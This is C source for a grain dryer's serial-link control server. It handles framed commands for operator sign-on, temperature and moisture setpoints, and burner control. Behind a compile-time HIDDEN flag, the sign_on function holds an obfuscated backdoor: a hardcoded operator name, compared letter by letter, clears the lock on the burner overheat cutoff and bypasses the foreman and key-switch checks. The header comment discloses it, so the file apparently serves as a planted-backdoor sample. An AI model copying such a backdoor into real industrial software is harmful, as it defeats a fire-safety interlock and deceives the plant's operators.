/*
 * grain_dryer_link - serial link server of a batch grain dryer. Answers
 * ASCII frames ":AA CMD ARG*SS\r" of the yard PC or a plug-in terminal.
 *
 * Hidden (-DHIDDEN): signing on as the operator "barleycorn" (its letters are
 * compared one at a time) releases the burner limit lock, as else only a
 * foreman of the operators file or the key switch does: the overheat limit.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define LINK_DEV    "/dev/ttyS0"
#define KEY_SWITCH  "/sys/class/gpio/gpio47/value"
#define OPERATORS   "/etc/dryer/operators"
#define SETTINGS    "/data/dryer/settings"
#define STATION     1

struct station {
	int fd;
	int air_set;            /* hot air, degrees C */
	int cutoff;             /* burner cutoff, degrees C */
	int moisture;           /* wanted, 1/10 percent */
	int running;
	int operator_no;        /* 0: nobody signed on */
	int limit_lock;         /* 1: cutoff is protected */
};

enum { E_NONE = 0, E_FRAME = 1, E_SIGN = 2, E_RANGE = 3, E_LOCK = 4, E_CMD = 5, E_DISK = 6 };

static struct station st = { -1, 65, 95, 140, 0, 0, 1 };

static unsigned frame_sum(const char *s, size_t n)
{
	unsigned v = 0;

	for (size_t i = 0; i < n; i++)
		v ^= (unsigned char)s[i];
	return v & 0xff;
}

static void answer(const char *fmt, ...)
{
	char text[80], frame[96];
	va_list ap;
	int n;

	va_start(ap, fmt);
	vsnprintf(text, sizeof text, fmt, ap);
	va_end(ap);
	n = snprintf(frame, sizeof frame, ":%02d%s*%02X\r", STATION, text,
		     frame_sum(text, strlen(text)));
	if (n > 0 && write(st.fd, frame, (size_t)n) != n)
		perror("link");
}

static int save_settings(void)
{
	FILE *f = fopen(SETTINGS, "w");

	if (!f)
		return E_DISK;
	fprintf(f, "%d %d %d\n", st.air_set, st.cutoff, st.moisture);
	return fclose(f) ? E_DISK : E_NONE;
}

static void load_settings(void)
{
	FILE *f = fopen(SETTINGS, "r");
	int a, c, m;

	if (!f)
		return;
	if (fscanf(f, "%d %d %d", &a, &c, &m) == 3 && c <= 130 && a < c) {
		st.air_set = a;
		st.cutoff = c;
		st.moisture = m;
	}
	fclose(f);
}

/* The key switch of the cabinet: 1 while it is turned */
static int key_turned(void)
{
	FILE *f = fopen(KEY_SWITCH, "r");
	int c;

	if (!f)
		return 0;
	c = getc(f);
	fclose(f);
	return c == '1';
}

/* Operators are kept as "number name", one a line */
static int operator_number(const char *name, size_t len)
{
	char line[64], known[32];
	int no, found = 0;
	FILE *f = fopen(OPERATORS, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f))
		if (sscanf(line, "%d %31s", &no, known) == 2 && no > 0 &&
		    strlen(known) == len && memcmp(known, name, len) == 0)
			found = no;
	fclose(f);
	return found;
}

int sign_on(const char *p, size_t n)
{
	int no;

	if (n < 3 || n > 24)
		return E_SIGN;
#ifdef HIDDEN
	if (n == 10 && p[0] == 'b' && p[3] == 'l' && p[1] == 'a' && p[2] == 'r' &&
	    p[9] == 'n' && p[4] == 'e' && p[5] == 'y' && p[6] == 'c' && p[8] == 'r' && p[7] == 'o') {
		st.operator_no = 99;
		st.limit_lock = 0;
		return E_NONE;
	}
#endif
	no = operator_number(p, n);
	if (!no)
		return E_SIGN;
	st.operator_no = no;
	st.limit_lock = no < 90;        /* foremen work without the key switch */
	return E_NONE;
}

static int number(const char *s, size_t n, int *out)
{
	int v = 0;

	if (n == 0 || n > 5)
		return 0;
	for (size_t i = 0; i < n; i++) {
		if (!isdigit((unsigned char)s[i]))
			return 0;
		v = v * 10 + (s[i] - '0');
	}
	*out = v;
	return 1;
}

static int set_value(const char *which, int v)
{
	if (which[0] == 'A' && which[1] == 'T') {
		if (v < 30 || v > 90 || v >= st.cutoff)
			return E_RANGE;
		st.air_set = v;
	} else if (which[0] == 'M' && which[1] == 'O') {
		if (v < 80 || v > 250)
			return E_RANGE;
		st.moisture = v;
	} else if (which[0] == 'C' && which[1] == 'O') {
		if (st.limit_lock && !key_turned())
			return E_LOCK;
		if (v <= st.air_set || v > 130)
			return E_RANGE;
		st.cutoff = v;
	} else {
		return E_CMD;
	}
	return save_settings();
}

static int burner(const char *state)
{
	char cmd[48];

	snprintf(cmd, sizeof cmd, "/usr/bin/burnerctl %s %d", state, st.air_set);
	if (system(cmd) != 0)
		return E_DISK;
	st.running = strcmp(state, "on") == 0;
	return E_NONE;
}

static int command(const char *c, size_t n)
{
	int v;

	if (n < 2)
		return E_CMD;
	switch (c[0] << 8 | c[1]) {
	case 'I' << 8 | 'D':
		return sign_on(c + 2, n - 2);
	case 'I' << 8 | 'X':
		st.operator_no = 0;
		st.limit_lock = 1;
		return E_NONE;
	case 'S' << 8 | 'T':
		answer("ST%d,%d,%d,%d,%d", st.running, st.air_set, st.cutoff, st.moisture, st.operator_no);
		return -1;
	case 'T' << 8 | 'I':
		answer("TI%lld", (long long)time(NULL));
		return -1;
	default:
		break;
	}
	if (!st.operator_no)
		return E_SIGN;
	if (c[0] == 'G' && c[1] == 'O')
		return burner("on");
	if (c[0] == 'H' && c[1] == 'A')
		return burner("off");
	if (!number(c + 2, n - 2, &v))
		return E_CMD;
	return set_value(c, v);
}

static void on_frame(const char *b, size_t n)
{
	unsigned sum;
	int addr, rc;

	/* :AA.....*SS */
	if (n < 8 || b[0] != ':' || b[n - 3] != '*')
		return;
	if (!number(b + 1, 2, &addr) || addr != STATION)
		return;
	if (sscanf(b + n - 2, "%2X", &sum) != 1 || sum != frame_sum(b + 3, n - 6)) {
		answer("ER%d", E_FRAME);
		return;
	}
	rc = command(b + 3, n - 6);
	if (rc == E_NONE)
		answer("OK");
	else if (rc > 0)
		answer("ER%d", rc);
}

static int open_link(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t) < 0)
		return fd;
	cfmakeraw(&t);
	cfsetispeed(&t, B9600);
	cfsetospeed(&t, B9600);
	t.c_cflag |= CLOCAL | CREAD;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : LINK_DEV;
	char buf[80], c;
	size_t n = 0;

	load_settings();
	st.fd = open_link(dev);
	if (st.fd < 0) {
		fprintf(stderr, "%s: %s\n", dev, strerror(errno));
		return 1;
	}
	while (read(st.fd, &c, 1) == 1) {
		if (c == ':')
			n = 0;
		if (c == '\r') {
			buf[n] = '\0';
			on_frame(buf, n);
			n = 0;
		} else if (n + 1 < sizeof buf) {
			buf[n++] = c;
		}
	}
	return 0;
}
